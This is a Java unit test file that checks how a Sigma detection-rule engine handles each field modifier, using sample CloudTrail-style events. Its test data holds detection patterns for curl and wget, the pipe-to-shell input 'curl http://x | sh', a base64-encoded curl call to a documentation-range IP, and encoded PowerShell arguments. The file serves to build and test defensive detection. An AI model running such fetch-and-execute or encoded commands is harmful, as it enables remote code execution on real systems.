package dev.guardian.security.sigma;

import static dev.guardian.security.sigma.TestRules.matches;
import static dev.guardian.security.sigma.TestRules.problem;
import static dev.guardian.security.sigma.TestRules.rule;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Every field modifier of the Sigma specification, one positive and one negative case each. */
class ModifierTest {

    @Test
    void plainValuesAreCaseInsensitiveEquality() {
        SigmaRule r = rule("sel:\n  eventName: ConsoleLogin\ncondition: sel");
        assertThat(matches(r, "{'eventName':'consolelogin'}")).isTrue();
        assertThat(matches(r, "{'eventName':'ConsoleLoginX'}")).isFalse();
        assertThat(matches(r, "{}")).isFalse();
    }

    @Test
    void casedMakesMatchingCaseSensitive() {
        SigmaRule r = rule("sel:\n  eventName|cased: ConsoleLogin\ncondition: sel");
        assertThat(matches(r, "{'eventName':'ConsoleLogin'}")).isTrue();
        assertThat(matches(r, "{'eventName':'consolelogin'}")).isFalse();
    }

    @Test
    void containsStartswithEndswith() {
        SigmaRule contains = rule("sel:\n  userAgent|contains: Hog\ncondition: sel");
        assertThat(matches(contains, "{'userAgent':'trufflehog/3'}")).isTrue();
        assertThat(matches(contains, "{'userAgent':'aws-cli'}")).isFalse();

        SigmaRule starts = rule("sel:\n  eventName|startswith: Update\ncondition: sel");
        assertThat(matches(starts, "{'eventName':'UpdateTrail'}")).isTrue();
        assertThat(matches(starts, "{'eventName':'TrailUpdate'}")).isFalse();

        SigmaRule ends = rule("sel:\n  eventName|endswith: trail\ncondition: sel");
        assertThat(matches(ends, "{'eventName':'DeleteTrail'}")).isTrue();
        assertThat(matches(ends, "{'eventName':'TrailDeleted'}")).isFalse();
    }

    @Test
    void listValuesAreOrAndAllMakesThemAnd() {
        SigmaRule any = rule("sel:\n  cmd|contains:\n    - curl\n    - wget\ncondition: sel");
        assertThat(matches(any, "{'cmd':'wget http://x'}")).isTrue();
        assertThat(matches(any, "{'cmd':'ls'}")).isFalse();

        SigmaRule all = rule("sel:\n  cmd|contains|all:\n    - curl\n    - '| sh'\ncondition: sel");
        assertThat(matches(all, "{'cmd':'curl http://x | sh'}")).isTrue();
        assertThat(matches(all, "{'cmd':'curl http://x'}")).isFalse();
    }

    @Test
    void wildcardsAndEscapes() {
        SigmaRule star = rule("sel:\n  arn: 'arn:aws:iam::*:root'\ncondition: sel");
        assertThat(matches(star, "{'arn':'arn:aws:iam::111122223333:root'}")).isTrue();
        assertThat(matches(star, "{'arn':'arn:aws:iam::111122223333:user/root'}")).isFalse();

        SigmaRule one = rule("sel:\n  code: 'ab?d'\ncondition: sel");
        assertThat(matches(one, "{'code':'abcd'}")).isTrue();
        assertThat(matches(one, "{'code':'abd'}")).isFalse();

        SigmaRule escaped = rule("sel:\n  name: 'what\\?'\ncondition: sel");
        assertThat(matches(escaped, "{'name':'what?'}")).isTrue();
        assertThat(matches(escaped, "{'name':'whatx'}")).isFalse();

        SigmaRule literalStar = rule("sel:\n  name|contains: 'a\\*b'\ncondition: sel");
        assertThat(matches(literalStar, "{'name':'xa*by'}")).isTrue();
        assertThat(matches(literalStar, "{'name':'xaZZby'}")).isFalse();

        SigmaRule backslash = rule("sel:\n  path: 'C:\\\\dir\\\\*'\ncondition: sel");
        assertThat(matches(backslash, "{\"path\":\"C:\\\\dir\\\\file\"}".replace('"', '"')))
                .isTrue();
    }

    @Test
    void regexWithSubModifiers() {
        SigmaRule re = rule("sel:\n  arn|re: '.+:assumed-role/aws:.+'\ncondition: sel");
        assertThat(matches(re, "{'arn':'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1'}"))
                .isTrue();
        assertThat(matches(re, "{'arn':'arn:aws:sts::1:assumed-role/admin/x'}")).isFalse();

        SigmaRule cased = rule("sel:\n  ua|re: '^TruffleHog'\ncondition: sel");
        assertThat(matches(cased, "{'ua':'trufflehog'}")).isFalse();
        SigmaRule insensitive = rule("sel:\n  ua|re|i: '^TruffleHog'\ncondition: sel");
        assertThat(matches(insensitive, "{'ua':'trufflehog'}")).isTrue();

        SigmaRule multiline = rule("sel:\n  doc|re|m: '^second$'\ncondition: sel");
        assertThat(matches(multiline, "{'doc':'first\\nsecond\\nthird'}")).isTrue();
        assertThat(
                        matches(
                                rule("sel:\n  doc|re: '^second$'\ncondition: sel"),
                                "{'doc':'first\\nsecond'}"))
                .isFalse();

        SigmaRule dotall = rule("sel:\n  doc|re|s: 'first.second'\ncondition: sel");
        assertThat(matches(dotall, "{'doc':'first\\nsecond'}")).isTrue();
        assertThat(
                        matches(
                                rule("sel:\n  doc|re: 'first.second'\ncondition: sel"),
                                "{'doc':'first\\nsecond'}"))
                .isFalse();
    }

    @Test
    void cidrOnIpv4AndIpv6() {
        SigmaRule v4 = rule("sel:\n  sourceIPAddress|cidr: 10.0.0.0/8\ncondition: sel");
        assertThat(matches(v4, "{'sourceIPAddress':'10.20.30.40'}")).isTrue();
        assertThat(matches(v4, "{'sourceIPAddress':'11.0.0.1'}")).isFalse();
        assertThat(matches(v4, "{'sourceIPAddress':'AWS Internal'}")).isFalse();
        assertThat(matches(v4, "{'sourceIPAddress':'ec2.amazonaws.com'}")).isFalse();

        SigmaRule odd = rule("sel:\n  ip|cidr: 192.168.4.0/22\ncondition: sel");
        assertThat(matches(odd, "{'ip':'192.168.7.255'}")).isTrue();
        assertThat(matches(odd, "{'ip':'192.168.8.0'}")).isFalse();

        SigmaRule v6 = rule("sel:\n  ip|cidr: '2001:db8::/32'\ncondition: sel");
        assertThat(matches(v6, "{'ip':'2001:db8:1::7'}")).isTrue();
        assertThat(matches(v6, "{'ip':'2001:db9::1'}")).isFalse();

        assertThat(problem("sel:\n  ip|cidr: 300.1.1.1/8\ncondition: sel").reason())
                .contains("not an IP network");
    }

    @Test
    void base64AndBase64offset() {
        String encoded =
                Base64.getEncoder().encodeToString("evil".getBytes(StandardCharsets.UTF_8));
        SigmaRule b64 = rule("sel:\n  data|base64: evil\ncondition: sel");
        assertThat(matches(b64, "{'data':'" + encoded + "'}")).isTrue();
        assertThat(matches(b64, "{'data':'evil'}")).isFalse();

        SigmaRule offset = rule("sel:\n  data|base64offset|contains: 'http://'\ncondition: sel");
        for (String prefix : List.of("", "a", "ab", "abc", "curl ")) {
            String text =
                    Base64.getEncoder()
                            .encodeToString(
                                    (prefix + "http://198.51.100.9/x")
                                            .getBytes(StandardCharsets.UTF_8));
            assertThat(matches(offset, "{'data':'" + text + "'}")).as(prefix).isTrue();
        }
        String unrelated =
                Base64.getEncoder().encodeToString("ftp://host".getBytes(StandardCharsets.UTF_8));
        assertThat(matches(offset, "{'data':'" + unrelated + "'}")).isFalse();

        assertThat(problem("sel:\n  data|base64: 'ev*l'\ncondition: sel").reason())
                .contains("wildcards");
    }

    @Test
    void utf16EncodingsBeforeBase64() {
        String le = Base64.getEncoder().encodeToString("cmd".getBytes(StandardCharsets.UTF_16LE));
        String be = Base64.getEncoder().encodeToString("cmd".getBytes(StandardCharsets.UTF_16BE));
        byte[] bom = {(byte) 0xff, (byte) 0xfe, 'c', 0, 'm', 0, 'd', 0};
        String withBom = Base64.getEncoder().encodeToString(bom);

        assertThat(matches(rule("s:\n  d|wide|base64: cmd\ncondition: s"), "{'d':'" + le + "'}"))
                .isTrue();
        assertThat(matches(rule("s:\n  d|utf16le|base64: cmd\ncondition: s"), "{'d':'" + le + "'}"))
                .isTrue();
        assertThat(matches(rule("s:\n  d|utf16be|base64: cmd\ncondition: s"), "{'d':'" + be + "'}"))
                .isTrue();
        assertThat(matches(rule("s:\n  d|utf16be|base64: cmd\ncondition: s"), "{'d':'" + le + "'}"))
                .isFalse();
        assertThat(
                        matches(
                                rule("s:\n  d|utf16|base64: cmd\ncondition: s"),
                                "{'d':'" + withBom + "'}"))
                .isTrue();

        SigmaRule wide = rule("s:\n  d|wide|contains: md\ncondition: s");
        assertThat(matches(wide, "{'d':'c\\u0000m\\u0000d\\u0000'}")).isTrue();
        assertThat(matches(wide, "{'d':'cmd'}")).isFalse();
    }

    @Test
    void windashCoversEveryDashSpelling() {
        SigmaRule r = rule("s:\n  cmd|windash|contains: ' -enc '\ncondition: s");
        for (String dash : List.of("-", "/", "\u2013", "\u2014", "\u2015")) {
            assertThat(matches(r, "{'cmd':'powershell " + dash + "enc AAAA'}")).as(dash).isTrue();
        }
        assertThat(matches(r, "{'cmd':'powershell +enc AAAA'}")).isFalse();
    }

    @Test
    void existsAndNull() {
        SigmaRule exists = rule("s:\n  errorCode|exists: true\ncondition: s");
        assertThat(matches(exists, "{'errorCode':'AccessDenied'}")).isTrue();
        assertThat(matches(exists, "{'errorCode':null}")).isFalse();
        assertThat(matches(exists, "{}")).isFalse();

        SigmaRule absent = rule("s:\n  errorCode|exists: false\ncondition: s");
        assertThat(matches(absent, "{}")).isTrue();
        assertThat(matches(absent, "{'errorCode':'x'}")).isFalse();

        SigmaRule isNull = rule("s:\n  errorCode: null\ncondition: s");
        assertThat(matches(isNull, "{}")).isTrue();
        assertThat(matches(isNull, "{'errorCode':null}")).isTrue();
        assertThat(matches(isNull, "{'errorCode':'AccessDenied'}")).isFalse();

        SigmaRule empty = rule("s:\n  errorCode: ''\ncondition: s");
        assertThat(matches(empty, "{'errorCode':''}")).isTrue();
        assertThat(matches(empty, "{}")).isFalse();

        assertThat(problem("s:\n  errorCode|exists: maybe\ncondition: s").reason())
                .contains("boolean");
    }

    @Test
    void numericComparisons() {
        SigmaRule gt = rule("s:\n  requestParameters.durationSeconds|gt: 43200\ncondition: s");
        assertThat(matches(gt, "{'requestParameters':{'durationSeconds':129600}}")).isTrue();
        assertThat(matches(gt, "{'requestParameters':{'durationSeconds':43200}}")).isFalse();
        assertThat(matches(gt, "{'requestParameters':{'durationSeconds':'129600'}}")).isTrue();
        assertThat(matches(gt, "{'requestParameters':{'durationSeconds':'long'}}")).isFalse();

        assertThat(matches(rule("s:\n  n|gte: 5\ncondition: s"), "{'n':5}")).isTrue();
        assertThat(matches(rule("s:\n  n|gte: 5\ncondition: s"), "{'n':4.99}")).isFalse();
        assertThat(matches(rule("s:\n  n|lt: 5\ncondition: s"), "{'n':4}")).isTrue();
        assertThat(matches(rule("s:\n  n|lt: 5\ncondition: s"), "{'n':5}")).isFalse();
        assertThat(matches(rule("s:\n  n|lte: 5.5\ncondition: s"), "{'n':5.5}")).isTrue();
        assertThat(matches(rule("s:\n  n|lte: 5.5\ncondition: s"), "{'n':6}")).isFalse();

        assertThat(problem("s:\n  n|gt: many\ncondition: s").reason()).contains("needs a number");
    }

    @Test
    void fieldrefComparesTwoFieldsOfTheEvent() {
        SigmaRule same =
                rule(
                        "s:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: s");
        assertThat(
                        matches(
                                same,
                                "{'userIdentity':{'userName':'Bob'},'requestParameters':{'userName':'bob'}}"))
                .isTrue();
        assertThat(
                        matches(
                                same,
                                "{'userIdentity':{'userName':'alice'},'requestParameters':{'userName':'bob'}}"))
                .isFalse();
        assertThat(matches(same, "{'userIdentity':{'userName':'alice'}}")).isFalse();

        SigmaRule endswith =
                rule(
                        "s:\n  userIdentity.arn|fieldref|endswith: requestParameters.userName\n"
                                + "condition: s");
        assertThat(
                        matches(
                                endswith,
                                "{'userIdentity':{'arn':'arn:aws:iam::1:user/bob'},"
                                        + "'requestParameters':{'userName':'bob'}}"))
                .isTrue();
        assertThat(
                        matches(
                                endswith,
                                "{'userIdentity':{'arn':'arn:aws:iam::1:user/alice'},"
                                        + "'requestParameters':{'userName':'bob'}}"))
                .isFalse();
    }

    @Test
    void expandNeedsConfiguredPlaceholders() {
        String detection = "s:\n  userIdentity.userName|expand: '%admins%'\ncondition: s";
        RuleProblem missing = problem(detection);
        assertThat(missing.unsupported()).isTrue();
        assertThat(missing.reason()).contains("%admins%").contains("not configured");
        assertThat(missing.line()).isEqualTo(7);

        SigmaRule r = rule(detection, Map.of("admins", List.of("root-ops", "break-glass*")));
        assertThat(matches(r, "{'userIdentity':{'userName':'root-ops'}}")).isTrue();
        assertThat(matches(r, "{'userIdentity':{'userName':'break-glass-2'}}")).isTrue();
        assertThat(matches(r, "{'userIdentity':{'userName':'alice'}}")).isFalse();
    }

    @Test
    void neqExcludesAValue() {
        SigmaRule r = rule("s:\n  eventType|neq: AwsServiceEvent\ncondition: s");
        assertThat(matches(r, "{'eventType':'AwsApiCall'}")).isTrue();
        assertThat(matches(r, "{'eventType':'AwsServiceEvent'}")).isFalse();
    }

    @Test
    void unknownModifierIsReportedWithItsLine() {
        RuleProblem p = problem("s:\n  eventName: x\n  userAgent|sounds_like: hog\ncondition: s");
        assertThat(p.unsupported()).isTrue();
        assertThat(p.reason()).contains("unknown modifier 'sounds_like'");
        assertThat(p.line()).isEqualTo(8);
        assertThat(p.toString()).startsWith("test.yml:8: unsupported: ");
    }

    @Test
    void regexFlagsWithoutRegexAreAnError() {
        assertThat(problem("s:\n  a|i: x\ncondition: s").reason()).contains("only qualifies 're'");
        assertThat(problem("s:\n  a|re: '(unclosed'\ncondition: s").reason())
                .contains("invalid regular expression");
    }

    @Test
    void booleansAndNumbersMatchTheirText() {
        SigmaRule enable = rule("s:\n  requestParameters.enable: 'false'\ncondition: s");
        assertThat(matches(enable, "{'requestParameters':{'enable':false}}")).isTrue();
        assertThat(matches(enable, "{'requestParameters':{'enable':true}}")).isFalse();

        SigmaRule number = rule("s:\n  port: 22\ncondition: s");
        assertThat(matches(number, "{'port':22}")).isTrue();
        assertThat(matches(number, "{'port':'22'}")).isTrue();
        assertThat(matches(number, "{'port':2222}")).isFalse();
    }
}
